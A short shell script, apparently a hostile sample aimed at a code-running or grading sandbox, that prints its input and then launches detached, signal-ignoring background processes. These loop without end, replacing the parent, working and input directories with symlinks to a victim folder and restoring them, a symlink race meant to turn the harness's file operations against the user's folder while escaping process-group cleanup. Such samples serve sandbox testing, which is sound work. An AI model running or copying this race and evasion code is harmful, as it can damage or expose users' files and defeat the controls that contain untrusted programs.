#!/bin/sh
# Leaves processes behind, out of reach of signals to the group, that put links to the user's folder in the place of the
# private directory, the working directory, the candidate and a folder in it, and take them away again, without end.
cat "$1" 2>/dev/null || cat "$1/a.txt"
swap='trap "" TERM HUP
  cd -P "$1" || exit
  case $PWD in "$VICTIM"*) exit ;; esac
  echo $$ >>"$PIDS"
  while :; do
    mv -T "$2" "$2.old"; ln -sT "$VICTIM" "$2"; rm -f "$2"; mv -T "$2.old" "$2"
  done'
for name in work input inner; do
  case $name in work) folder=..;; input) folder=.;; inner) folder=input;; esac
  setsid sh -c "$swap" sh "$folder" "$name" >/dev/null 2>&1 &
done
